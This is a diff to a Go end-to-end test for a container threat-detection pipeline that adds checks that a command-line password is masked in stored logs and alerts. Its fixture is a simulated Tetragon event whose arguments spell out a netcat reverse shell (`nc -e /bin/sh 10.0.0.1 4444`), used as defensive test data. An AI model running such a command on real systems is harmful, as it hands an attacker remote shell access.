@@ -240,11 +240,23 @@ func checkNoiseBurst(t *testing.T, simBin, sock string, allLogs *victoriaLogs, a
 		return d >= n
 	})
 	t.Logf("noise: %d repeats → %d alert(s) in Alertmanager, detections annotation %q", n, len(alerts), alerts[0].Annotations["detections"])
+
+	// The command line's password never leaves the collector: not in the log store (body and
+	// attributes), not in the alert; the stored command line keeps the option's name.
+	if c, err := allLogs.count(`hunter2`); err != nil || c != 0 {
+		t.Errorf("the log store holds the burst's password in %d records (%v)", c, err)
+	}
+	if c, _ := allLogs.count(`process.command_line:"--password=***"`); c != n {
+		t.Errorf("%d stored records carry the masked command line, want %d", c, n)
+	}
+	if cl := alerts[0].Annotations["command_line"]; strings.Contains(cl, "hunter2") || !strings.Contains(cl, "--password=***") {
+		t.Errorf("alert command_line %q", cl)
+	}
 }
 
-// noisyExec is a Tetragon process_exec of `nc -e /bin/sh` (reverse_shell, critical, no suppress
-// window) in pod noisy/noisy-0; %d makes each exec id unique, %s is a placeholder time (restamped).
-const noisyExec = `{"process_exec":{"process":{"exec_id":"bm9pc3k6%d","pid":4242,"uid":0,"cwd":"/","binary":"/usr/bin/nc","arguments":"-e /bin/sh 10.0.0.1 4444","flags":"execve clone","start_time":"2026-12-01T10:00:00Z","auid":4294967295,"pod":{"namespace":"noisy","name":"noisy-0","container":{"id":"containerd://0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0","name":"app","image":{"id":"docker.io/library/busybox@sha256:00","name":"docker.io/library/busybox:1.36"},"start_time":"2026-12-01T09:00:00Z","pid":7},"pod_labels":{"app":"noisy"},"workload":"noisy","workload_kind":"Deployment"},"docker":"0f1e2d3c4b5a69788796a5b4c3d2e1f","parent_exec_id":"bm9pc3k6cGFyZW50","tid":4242},"parent":{"exec_id":"bm9pc3k6cGFyZW50","pid":4200,"binary":"/bin/sh","arguments":"-c run","flags":"execve","start_time":"2026-12-01T09:00:01Z","pod":{"namespace":"noisy","name":"noisy-0","container":{"id":"containerd://0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0","name":"app"}},"docker":"0f1e2d3c4b5a69788796a5b4c3d2e1f","tid":4200}},"node_name":"e2e-node","time":"%s"}`
+// noisyExec is a Tetragon process_exec of `nc -e /bin/sh … --password=hunter2` (reverse_shell,
+// critical, no suppress window; a secret for the redaction) in pod noisy/noisy-0; %d makes each exec id unique, %s is a placeholder time (restamped).
+const noisyExec = `{"process_exec":{"process":{"exec_id":"bm9pc3k6%d","pid":4242,"uid":0,"cwd":"/","binary":"/usr/bin/nc","arguments":"-e /bin/sh 10.0.0.1 4444 --password=hunter2","flags":"execve clone","start_time":"2026-12-01T10:00:00Z","auid":4294967295,"pod":{"namespace":"noisy","name":"noisy-0","container":{"id":"containerd://0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0","name":"app","image":{"id":"docker.io/library/busybox@sha256:00","name":"docker.io/library/busybox:1.36"},"start_time":"2026-12-01T09:00:00Z","pid":7},"pod_labels":{"app":"noisy"},"workload":"noisy","workload_kind":"Deployment"},"docker":"0f1e2d3c4b5a69788796a5b4c3d2e1f","parent_exec_id":"bm9pc3k6cGFyZW50","tid":4242},"parent":{"exec_id":"bm9pc3k6cGFyZW50","pid":4200,"binary":"/bin/sh","arguments":"-c run","flags":"execve","start_time":"2026-12-01T09:00:01Z","pod":{"namespace":"noisy","name":"noisy-0","container":{"id":"containerd://0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0","name":"app"}},"docker":"0f1e2d3c4b5a69788796a5b4c3d2e1f","tid":4200}},"node_name":"e2e-node","time":"%s"}`
 
 // reconcileCounts: Prometheus counts one detection per (record, matched rule or chain), the
 // detections store one record per tagged record; the store's records times their matched rules
